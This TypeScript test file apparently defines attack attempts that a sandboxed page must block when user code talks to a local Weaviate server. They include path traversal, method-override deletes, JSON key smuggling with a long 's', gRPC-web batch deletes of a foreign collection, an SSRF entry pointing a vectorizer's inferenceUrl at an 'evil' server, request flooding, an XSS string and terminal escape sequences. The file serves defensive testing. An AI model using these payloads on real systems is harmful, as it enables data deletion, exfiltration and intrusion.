import { type Attack, attempt } from './attack.ts';
import { browserAttacks } from './attacks-browser.ts';

const rest = 'http://localhost:8080';

/** A gRPC-web frame around a message of the given bytes, as code. */
const frame =
  'const frame = (bytes) => new Uint8Array([0, 0, 0, bytes.length >> 8, bytes.length & 255, ...bytes]);';
const text =
  'const text = (field, value) => [field * 8 + 2, value.length, ...new TextEncoder().encode(value)];';
const call = `const call = async (name, bytes, type = 'application/grpc-web+proto') => (await fetch('${rest}/v1/grpc-web/weaviate.v1.Weaviate/' + name, { method: 'POST', headers: { 'content-type': type, 'x-grpc-web': '1' }, body: frame(bytes) })).status;`;
const json = (method: string, path: string, body?: unknown) =>
  `const { status } = await fetch('${rest}${path}', { method: '${method}', ${body === undefined ? '' : `headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify(body))}`} }); if (status >= 300) throw new Error('status ' + status); return status;`;

/** Makes a collection of the page's own, behind which a foreign one could hide. */
const own = `await client.collections.create({ name: 'Mine' });`;

/** What code of a TypeScript block could try. */
export const attacks: Attack[] = [
  ...browserAttacks,
  {
    name: 'reach another path of the server',
    code: () => attempt(`return (await fetch('${rest}/metrics')).status;`),
  },
  {
    name: 'reach another path through a way up',
    code: () => attempt(`return (await fetch('${rest}/v1/../metrics')).status;`),
  },
  {
    name: 'hide a way up behind percent signs',
    code: () => attempt(`return (await fetch('${rest}/v1/%2e%2e%2fmetrics')).status;`),
  },
  // Weaviate would refuse both by itself, in other words.
  {
    name: 'start a backup',
    code: () => attempt(json('POST', '/v1/backups/filesystem', { id: 'x' })),
    prints: ['failed Error: POST /v1/backups/filesystem is nothing that a block o'],
  },
  {
    name: 'make a user',
    code: () => attempt(json('POST', '/v1/users/db/mallory')),
    prints: ['failed Error: POST /v1/users/db/mallory is nothing that a block on '],
  },
  {
    name: 'move an alias to another collection',
    code: () =>
      `${own} await client.alias.create({ alias: 'Other', collection: 'Mine' });\n${attempt(json('PUT', '/v1/aliases/Other', { class: 'Foreign' }))}`,
  },
  {
    name: 'reach a foreign collection by another name',
    code: () => attempt(json('POST', '/v1/aliases', { alias: 'Mine', class: 'Foreign' })),
  },
  {
    name: 'delete a foreign collection with the client',
    code: () => attempt(`await client.collections.delete('Foreign'); return 'deleted';`),
    asks: 'The block wants to delete Foreign',
  },
  {
    name: 'delete a foreign collection under a small letter',
    code: () => attempt(json('DELETE', '/v1/schema/foreign')),
  },
  {
    name: 'delete a foreign collection under an encoded name',
    code: () => attempt(json('DELETE', '/v1/schema/%46oreign')),
  },
  {
    name: 'delete a foreign collection by another method',
    code: () =>
      attempt(
        `const { status } = await fetch('${rest}/v1/schema/Foreign', { headers: { 'x-http-method-override': 'DELETE' } }); const list = await (await fetch('${rest}/v1/schema')).json(); if (list.classes.some((each) => each.class === 'Foreign')) throw new Error('still there'); return status;`,
      ),
  },
  {
    name: 'delete the objects of a foreign collection',
    code: () =>
      attempt(
        `const foreign = client.collections.use('Foreign'); return await foreign.data.deleteMany(foreign.filter.byProperty('text').like('*'));`,
      ),
  },
  {
    name: 'add objects to a foreign collection',
    code: () =>
      attempt(
        `const { hasErrors } = await client.collections.use('Foreign').data.insertMany([{ text: 'mine' }]); return hasErrors;`,
      ),
    asks: 'The block wants to change Foreign',
  },
  {
    name: 'hide a foreign collection behind an own one in a message',
    code: () =>
      `${own} ${frame} ${text} ${call}\n${attempt(`return await call('BatchDelete', [...text(1, 'Mine'), ...text(1, 'Foreign')]);`)}`,
  },
  {
    name: 'hide a foreign collection from JSON by a large letter',
    code: () =>
      `${own} ${attempt(json('POST', '/v1/objects', { class: 'Mine', Class: 'Foreign', properties: { text: 'mine' } }))}`,
  },
  {
    name: 'hide a foreign collection from JSON by a long s',
    code: () =>
      `${own} ${attempt(json('POST', '/v1/objects', { class: 'Mine', claſs: 'Foreign', properties: { text: 'mine' } }))}`,
  },
  {
    name: 'delete the objects of a foreign collection by a long s',
    code: () =>
      `${own} ${attempt(json('DELETE', '/v1/batch/objects', { match: { class: 'Mine', claſs: 'Foreign', where: { path: ['text'], operator: 'Like', valueText: '*' } } }))}`,
  },
  {
    name: 'have the page delete a foreign collection as if it were an alias',
    code: () => {
      const again = json('POST', '/v1/aliases', { alias: '../schema/Foreign', aliaſ: 'Good', class: 'Mine' });
      return `${own} ${attempt(again)} ${attempt(again)}`;
    },
  },
  {
    name: 'have Weaviate send texts elsewhere',
    code: (evil) => {
      // The evil server by an address of which nobody has said that it is this computer.
      const inferenceUrl = evil.replace('127.0.0.1', '[::ffff:127.0.0.1]');
      const collection = {
        class: 'Mine',
        vectorizer: 'text2vec-model2vec',
        moduleConfig: { 'text2vec-model2vec': { inferenceUrl } },
      };
      // That it may be made is too much already: Weaviate in a container does not reach the evil server.
      return attempt(
        `await (async () => { ${json('POST', '/v1/schema', collection)} })(); console.log('GOT a collection'); return await client.collections.use('Mine').data.insert({ text: 'not yours' });`,
      );
    },
    asks: 'The block wants Weaviate',
  },
  {
    name: 'hide a foreign collection in a list that the path does not use',
    code: () =>
      attempt(
        json('POST', '/v1/objects', {
          objects: [{ class: 'Mine' }],
          class: 'Foreign',
          properties: { text: 'mine' },
        }),
      ),
  },
  {
    name: 'write by another encoding of the same call',
    code: () =>
      `${frame} ${text} ${call}\n${attempt(`const status = await call('BatchDelete', text(1, 'Foreign'), 'application/json'); return status;`)}`,
  },
  {
    name: 'write by a stream',
    code: () =>
      `${frame} ${text} ${call}\n${attempt(`return await call('BatchStream', text(1, 'Foreign'));`)}`,
  },
  {
    name: 'flood the server with requests',
    code: () =>
      attempt(
        `const all = await Promise.allSettled(Array.from({ length: 500 }, () => fetch('${rest}/v1/meta'))); if (all.some(({ status }) => status === 'rejected')) throw new Error('refused'); return 'all';`,
      ),
    prints: ['failed Error: refused'],
  },
  {
    name: 'print HTML',
    code: () => `console.log('<img src=x onerror="document.title=1"><script>document.title=2</script>');`,
    prints: ['<img src=x onerror="document.title=1"><script>document.title=2</script>'],
  },
  {
    name: 'print what terminals obey',
    code: () => `console.log('\\u001b[2J\\u202egnirts\\u0007');`,
    prints: ['␛[2J\\u{202e}gnirts␇'],
  },
];
